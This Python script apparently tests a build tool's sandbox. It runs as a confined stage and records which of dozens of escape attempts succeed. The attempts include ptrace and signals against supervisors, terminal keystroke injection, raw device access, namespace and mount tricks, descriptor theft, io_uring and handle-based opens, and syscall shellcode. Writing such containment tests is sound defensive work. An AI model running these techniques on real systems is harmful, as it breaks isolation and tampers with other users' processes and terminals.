"""Tries to do what a stage must not: one line for each way that worked, `NAME: how`.

Runs as a stage, in its own directory.  Says nothing on standard output: a complaint there would end
the attempt for another reason.  usage: attacks.py VICTIM PID OUT [OTHER], where VICTIM is a file outside of the stage's
directory that its user may write, and PID a process of the same user that has it open, listens on the abstract
socket of its own number and knows nothing of the stage.  OTHER is such a process of another user's.  VICTIM.setuid is `id` of another user's, who has given it his rights. VICTIM.leased
is the stage's user's, and nobody has it open.
"""

import ctypes
import errno
import fcntl
import mmap
import os
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
victim, pid, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
other = int(sys.argv[4]) if sys.argv[4:] else None
ATTACKS = []


def attack(function):
    ATTACKS.append(function)
    return function


def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def ancestors():
    """Those above the stage's leader, which is our parent: its shim, smelt, and whoever started that."""
    found, at = [], os.getppid()
    while at > 1:
        at = int(open(f"/proc/{at}/stat").read().rsplit(")", 1)[1].split()[1])
        found.append(at)
    return found[:2]


def opened(path, flags=os.O_WRONLY):
    """Fails where it cannot be opened for writing; nothing is written."""
    os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))
    return path


def any_opened(paths):
    for path in paths:
        try:
            return opened(path)
        except OSError:
            pass
    raise OSError(errno.EACCES, "none")


@attack
def block_device():
    return any_opened(f"/dev/{name}" for name in os.listdir("/sys/block"))


@attack
def device_node():
    number = open(f"/sys/block/{os.listdir('/sys/block')[0]}/dev").read().split(":")
    os.mknod("node", 0o600 | stat.S_IFBLK, os.makedev(int(number[0]), int(number[1])))
    return opened("node")


@attack
def other_node():
    """A node that lies somewhere else, as in a folder for chroot."""
    return opened(victim + ".node")


@attack
def memory_devices():
    return any_opened(["/dev/kmsg", "/dev/mem", "/dev/port", "/dev/loop-control", "/dev/fuse"])


@attack
def immutable():
    with open(victim) as file:
        fcntl.ioctl(file, 0x40086602, struct.pack("l", 0x10))
        fcntl.ioctl(file, 0x40086602, struct.pack("l", 0))
    return "FS_IOC_SETFLAGS"


@attack
def by_readers():
    """Makes volumes, sets them read-only and seals files by descriptors that only read, which no rule about paths minds.  A file system
    that was asked would have done it, had it known how."""
    for path in (os.path.dirname(victim), victim):
        reader = os.open(path, os.O_RDONLY)
        for request in (0x50009401, 0x5000940E, 0x5000940F, 0x50009417, 0x50009418, 0x4008941A, 0xC0C89425, 0x5000943F, 0x40806685, 0x800C6613):
            try:
                fcntl.ioctl(reader, request, bytearray(4096))
            except OSError as error:
                if error.errno == errno.EPERM:
                    continue
            return f"ioctl {request:x}"
    raise OSError(errno.EPERM, "none")


@attack
def kernel_settings():
    return any_opened(["/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger"])


@attack
def other_processes():
    names = ["oom_score_adj", "mem", "coredump_filter", "comm", "root" + victim, "fd/3", "cwd/victim"]
    names += ["clear_refs", "autogroup", "sched", "timerslack_ns", "attr/current", "uid_map", "timens_offsets"]
    return any_opened(f"/proc/{who}/{name}" for who in [pid, *ancestors()] for name in names)


@attack
def signal_to_other():
    os.kill(pid, signal.SIGCONT)
    return "SIGCONT"


@attack
def signal_by_descriptor():
    call(424, call(434, pid, 0), int(signal.SIGCONT), None, 0)
    return "pidfd_send_signal"


def signal_by_owner_of_a_pipe(who, number):
    """The kernel sends it, when there is something to read."""
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, who)
    fcntl.fcntl(reader, 10, int(number))
    fcntl.fcntl(reader, fcntl.F_SETFL, fcntl.fcntl(reader, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(writer, b"x")
    time.sleep(0.1)
    os.close(reader)
    os.close(writer)


@attack
def signal_by_owner():
    """What is not sent is no error, so it is looked for: who is stopped shows it."""
    signal_by_owner_of_a_pipe(pid, signal.SIGSTOP)
    state = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0]
    signal_by_owner_of_a_pipe(pid, signal.SIGCONT)
    if state != "T":
        raise OSError(errno.EPERM, "it goes on")
    return "F_SETOWN"


@attack
def stop_of_the_supervisor():
    """Nobody then looks after the stage's time and memory."""
    for who in ancestors():
        try:
            os.kill(who, signal.SIGSTOP)
        except OSError:
            continue
        os.kill(who, signal.SIGCONT)
        return f"SIGSTOP {who}"
    raise OSError(errno.EPERM, "none")


@attack
def letters_for_the_user():
    """Types into the terminal from which smelt was started, for the shell that has it next."""
    terminals = ["/dev/tty", "/dev/tty1", "/dev/console"]
    terminals += [f"/dev/pts/{name}" for name in os.listdir("/dev/pts") if name.isdigit()]
    for path in terminals:
        for request, argument in ((0x5412, b" "), (0x541C, b"\3")):
            try:
                fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                fcntl.ioctl(fd, request, argument)
                return f"{request:x} {path}"
            except OSError:
                pass
            finally:
                os.close(fd)
    raise OSError(errno.EPERM, "none")


@attack
def terminal_of_the_user():
    return opened("/dev/tty")


@attack
def limits_of_others():
    """A supervisor that may open no file, or write none, is at its end."""
    for who in [pid, *ancestors()]:
        for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
            try:
                resource.prlimit(who, which, resource.prlimit(who, which))
                return f"prlimit {who}"
            except OSError:
                pass
    raise OSError(errno.EPERM, "none")


@attack
def limits_by_calls_of_32_bits():
    """The kernel takes them from any program; they have other numbers (prlimit64: 340)."""
    if os.uname().machine != "x86_64":
        raise OSError(errno.ENOSYS, "other code is needed")
    memory = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
    code = bytes.fromhex("5389f889f34189c989d14489ca4489c6cd805bc3")
    memory[: len(code)] = code
    at = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    ask = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 5)(at)
    for who in [pid, *ancestors()]:
        if ask(340, who, 7, 0, at + 2048) == 0 and ask(340, who, 7, at + 2048, 0) == 0:
            return f"prlimit {who}"
    raise OSError(errno.EPERM, "none")


@attack
def own_limits():
    """Not refused: builds set them."""
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    os.sched_setaffinity(0, os.sched_getaffinity(0))
    os.sched_setaffinity(os.getpid(), os.sched_getaffinity(0))
    os.setpriority(os.PRIO_PROCESS, 0, os.getpriority(os.PRIO_PROCESS, 0))
    os.setpriority(os.PRIO_PGRP, 0, os.getpriority(os.PRIO_PGRP, 0))
    raise OSError(errno.EPERM, "it may")


@attack
def priorities_of_groups():
    which, who = os.PRIO_PGRP, os.getpgid(pid)
    os.setpriority(which, who, os.getpriority(which, who))
    return "setpriority"


@attack
def scheduling_of_another():
    os.sched_setaffinity(pid, os.sched_getaffinity(pid))
    return "sched_setaffinity"


@attack
def memory_places_of_another():
    nodes = ctypes.c_ulong(1)
    return str(call(256, pid, ctypes.c_ulong(64), ctypes.byref(nodes), ctypes.byref(nodes)))


@attack
def trace():
    for who in [pid, *ancestors()]:
        if libc.ptrace(16, who, 0, 0) == 0:
            libc.ptrace(17, who, 0, 0)
            return f"PTRACE_ATTACH {who}"
    raise OSError(errno.EPERM, "none")


@attack
def compare():
    return str(call(312, pid, pid, 2, 0, 0))


@attack
def memory_of_other():
    local = ctypes.create_string_buffer(1)
    both, one = struct.pack("PN", ctypes.addressof(local), 1), ctypes.c_long(1)
    try:
        return str(call(310, pid, both, one, both, one, ctypes.c_long(0)))
    except OSError as error:
        # It would have been allowed, had there been anything at our address.
        if error.errno == errno.EFAULT:
            return "process_vm_readv"
        raise


@attack
def abstract_socket():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f"\0smelt-victim-{pid}")
    return "connected"


@attack
def descriptor():
    os.write(9, b"by an inherited descriptor\n")
    return "9"


@attack
def descriptor_of_other():
    os.write(call(438, call(434, pid, 0), 3, 0), b"by another's descriptor\n")
    return "pidfd_getfd"


@attack
def more_rights():
    fields = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    if fields["NoNewPrivs"] == "0":
        return "NoNewPrivs is 0"
    # LINUX_IMMUTABLE, DAC_READ_SEARCH, SYS_MODULE, SYS_RAWIO, SYS_PTRACE, SYS_ADMIN, SYS_BOOT, SYS_RESOURCE, SYS_TIME, MKNOD
    held = int(fields["CapEff"], 16) | int(fields["CapPrm"], 16) | int(fields["CapInh"], 16)
    odd = [n for n in (9, 2, 16, 17, 19, 21, 22, 24, 25, 27) if held >> n & 1]
    if odd:
        return f"capabilities {odd}"
    raise OSError(errno.EPERM, "none")


@attack
def groups():
    """Any file of any group: one frees, kills, or gives memory to whoever is in it."""
    found = [f"{folder}/{name}" for folder, _, names in os.walk("/sys/fs/cgroup") for name in names]
    return any_opened(found)


@attack
def another_user_s_program():
    """Runs with the rights of its owner, or where that is nobody special, of root."""
    said = subprocess.run([victim + ".setuid", "-u"], capture_output=True, text=True).stdout.strip()
    if said == str(os.getuid()):
        raise OSError(errno.EPERM, "it ran with our rights")
    return f"as {said}"


@attack
def memfd():
    fd = os.memfd_create("program", 0)
    os.write(fd, f"#!/bin/sh\necho x >> {victim} 2> /dev/null && touch {out}/by-memfd\n".encode())
    child = os.fork()
    if child == 0:
        try:
            os.execve(f"/proc/self/fd/{fd}", ["program"], {"PATH": "/usr/bin:/bin"})
        finally:
            os._exit(1)
    os.waitpid(child, 0)
    os.remove(f"{out}/by-memfd")
    return "executed"


@attack
def by_handle():
    """Opens by number what cannot be opened by name."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    number = ctypes.c_int()
    call(303, -100, victim.encode(), handle, ctypes.byref(number), 0)
    own = os.open(".", os.O_RDONLY)
    os.close(call(304, own, handle, os.O_WRONLY))
    return "open_by_handle_at"


def in_child(work):
    """What `work` managed in a process of its own."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writer, (work() or "done").encode())
        except BaseException:
            pass
        os._exit(0)
    os.close(writer)
    said = os.read(reader, 4096).decode()
    os.close(reader)
    os.waitpid(child, 0)
    if not said:
        raise OSError(errno.EPERM, "none")
    return said


def tried(work):
    try:
        return work()
    except OSError:
        return None


def mount(source, target, kind, flags):
    if libc.mount(source, target.encode(), kind, flags, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")


def become_root_of_a_name_space():
    user, group = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        tried(lambda: open(f"/proc/self/{name}", "w").write(text))


@attack
def own_name_space():
    def work():
        become_root_of_a_name_space()
        folder = os.path.dirname(victim)
        while folder:
            # Writable again, or with what lies below uncovered.
            tried(lambda: mount(None, folder, None, 32 | 4096))
            libc.umount2(folder.encode(), 2)
            if folder == "/":
                break
            folder = os.path.dirname(folder)
        return opened(victim)

    return in_child(work)


@attack
def another_s_name_space():
    def work():
        for name in ("user", "mnt"):
            fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            result = libc.setns(fd, 0)
            if name == "mnt" and result != 0:
                raise OSError(ctypes.get_errno(), "setns")
        return opened(victim)

    return in_child(work)


@attack
def old_mounts():
    def work():
        tried(become_root_of_a_name_space)
        for place in ("/dev/shm", "/dev", "/tmp"):
            libc.umount2(place.encode(), 2)
        return block_device()

    return in_child(work)


@attack
def mounted_anew():
    def work():
        os.mkdir("there")
        if not tried(lambda: mount(b"dev", "there", b"devtmpfs", 0) or "mounted"):
            become_root_of_a_name_space()
            mount(b"dev", "there", b"devtmpfs", 0)
        return any_opened(f"there/{name}" for name in os.listdir("/sys/block"))

    return in_child(work)


@attack
def lease():
    """Whoever opens the file to write then waits for us, time and again."""
    reader = os.open(victim + ".leased", os.O_RDONLY)
    try:
        fcntl.fcntl(reader, 1024, fcntl.F_RDLCK)
    except OSError as error:
        # Somebody has it open to write, which the kernel looked for.
        if error.errno != errno.EAGAIN:
            raise
    return "F_SETLEASE"


@attack
def keys():
    """Leaves a key with the user (KEY_SPEC_USER_KEYRING), or reads what others left there."""
    name = b"smelt-attack-" + os.path.basename(os.path.dirname(victim)).encode()
    key = tried(lambda: call(248, b"user", name, b"x", ctypes.c_size_t(1), -4))
    if key is not None:
        call(250, 9, key, -4)
        return f"add_key {key}"
    return f"keyctl {call(250, 0, -4, 0)}"


@attack
def asked_keys():
    """A kernel that looked for it would have found it, had there been one."""
    try:
        return f"request_key {call(249, b'user', b'smelt-attack', None, 0)}"
    except OSError as error:
        if error.errno in (errno.EPERM, errno.ENOSYS):
            raise
        return f"request_key: {error}"


def user_of_other():
    if other is None:
        raise OSError(errno.ESRCH, "nobody")
    return os.stat(f"/proc/{other}").st_uid


def become_other():
    user = user_of_other()
    os.setgroups([])
    os.setresgid(user, user, user)
    os.setresuid(user, user, user)


@attack
def root_of_another_user():
    """Is another user while it opens what leads out of every mount name space, and then itself again."""

    def work():
        user = user_of_other()
        libc.setfsgid(user)
        libc.setfsuid(user)
        root = os.open(f"/proc/{other}/root", os.O_PATH | os.O_DIRECTORY)
        libc.setfsuid(os.getuid())
        libc.setfsgid(os.getgid())
        os.close(os.open(victim.lstrip("/"), os.O_WRONLY, dir_fd=root))
        return "setfsuid"

    return in_child(work)


@attack
def trace_of_another_user():
    def work():
        become_other()
        # PTRACE_SEIZE, which stops nobody.
        if libc.ptrace(0x4206, other, 0, 0) != 0:
            raise OSError(ctypes.get_errno(), "ptrace")
        return "PTRACE_SEIZE"

    return in_child(work)


@attack
def descriptor_of_another_user():
    def work():
        become_other()
        os.write(call(438, call(434, other, 0), 3, 0), b"by another's descriptor\n")
        return "pidfd_getfd"

    return in_child(work)


@attack
def hard_link():
    os.link(victim, "link")
    return opened("link")


@attack
def taken():
    os.rename(victim, "taken")
    os.rename("taken", victim)
    return "rename"


@attack
def cut():
    os.truncate(victim, 0)
    return "truncate"


@attack
def mode():
    os.chmod(victim, 0o640)
    return "chmod"


@attack
def by_ring():
    """Has the kernel's own thread open it (io_uring)."""
    entries = 4
    params = ctypes.create_string_buffer(120)
    ring = call(425, entries, params)
    fields = struct.unpack_from("IIIIIII", params)
    sq = struct.unpack_from("IIIIIIII", params, 40)
    cq = struct.unpack_from("IIIIIIII", params, 80)
    head, tail, mask, array = sq[0], sq[1], sq[2], sq[6]
    size = max(array + 4 * fields[0], cq[5] + 16 * fields[1])
    shared = mmap.mmap(ring, size, offset=0)
    sqes = mmap.mmap(ring, 64 * fields[0], offset=0x10000000)
    path = ctypes.create_string_buffer(victim.encode())
    # OPENAT, relative to nothing, in a worker of the kernel's (IOSQE_ASYNC).
    struct.pack_into("<BBHiQQIIQ", sqes, 0, 18, 16, 0, -100, 0, ctypes.addressof(path), 0, os.O_WRONLY, 1)
    struct.pack_into("I", shared, array, 0)
    struct.pack_into("I", shared, tail, struct.unpack_from("I", shared, tail)[0] + 1)
    call(426, ring, 1, 1, 1, None, 0)
    result = struct.unpack_from("<Qi", shared, cq[5])[1]
    if result < 0:
        raise OSError(-result, "io_uring")
    return "io_uring"


@attack
def module():
    """A kernel that asked what to load was about to load it."""
    try:
        call(175, None, 0, b"")
    except OSError as error:
        if error.errno in (errno.EPERM, errno.ENOSYS):
            raise
    return "init_module"


@attack
def left_in_shared_memory():
    """Not refused: the caller looks whether it is there when the run is over."""
    with open(f"/dev/shm/smelt-attack-{os.path.basename(os.path.dirname(victim))}", "w") as file:
        file.write("left")
    raise OSError(errno.EPERM, "counted elsewhere")


@attack
def left_in_queues():
    """Not refused either: memory of System V, under a key that the caller knows."""
    key = int.from_bytes(os.path.basename(os.path.dirname(victim)).encode()[-4:], "little") & 0x7FFFFFFF
    call(29, key, ctypes.c_size_t(4096), 0o1600)
    raise OSError(errno.EPERM, "counted elsewhere")


def too_long(*_):
    raise TimeoutError(errno.ETIMEDOUT, "it did not come to an end")


signal.signal(signal.SIGALRM, too_long)
done, refused = [], []
for function in ATTACKS:
    # One that hangs has managed nothing.
    signal.alarm(5)
    try:
        done.append(f"{function.__name__}: {function()}")
    except OSError as error:
        refused.append(f"{function.__name__}: {error}")
    signal.alarm(0)
for name in ("node", "link", "there"):
    try:
        os.rmdir(name) if name == "there" else os.remove(name)
    except OSError:
        pass
with open(f"{out}/done", "w") as file:
    file.write("".join(line + "\n" for line in [f"# {len(ATTACKS)} tried", *done]))
with open(f"{out}/refused", "w") as file:
    file.write("".join(line + "\n" for line in refused))
